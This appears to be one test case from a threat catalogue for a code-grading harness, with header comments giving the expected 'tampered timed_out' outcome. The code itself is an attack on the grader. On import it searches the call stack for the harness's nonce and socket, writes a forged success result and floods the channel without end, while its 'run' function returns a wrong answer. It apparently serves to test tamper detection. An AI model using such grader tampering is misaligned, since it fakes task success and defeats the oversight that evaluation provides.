# number: 26
# source: threat catalogue
# tries: answers with a stream that does not end
# problem: silu
# expect: tampered timed_out
# naive: passes fails-open
import os
import struct
import sys

PAYLOAD = b'{"ok": true, "result": {}}'
frame = sys._getframe()
while frame is not None and not ("nonce" in frame.f_locals and "link" in frame.f_locals):
    frame = frame.f_back
if frame is not None:
    link = frame.f_locals["link"].fileno()
    head = struct.pack("<QII", frame.f_locals["nonce"], 0, len(PAYLOAD))
    os.write(link, head)
    while os.write(link, PAYLOAD):
        pass


def run(x):
    return x * 0
